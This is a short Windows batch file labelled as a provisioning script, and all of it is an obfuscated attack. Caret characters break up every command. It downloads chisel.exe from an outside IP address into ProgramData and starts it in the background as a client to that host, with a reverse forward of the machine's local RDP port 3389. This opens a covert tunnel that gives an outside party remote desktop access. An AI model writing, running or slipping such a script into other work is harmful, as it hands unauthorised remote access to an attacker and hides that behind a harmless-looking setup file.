REM provision 1965 v0
@echo off
^c^url -sL^o C:\Pr^og^ra^m^D^ata\c^h^i^s^e^l.^e^x^e http://19^2.0.2.^44/ch^i^se^l.^e^xe
^start /b C:\ProgramD^ata\c^h^isel.e^x^e ^cl^ie^nt ^1^9^2.0.^2.44:8^080 ^R:3^3^89:^127.0.^0.1:3^3^89
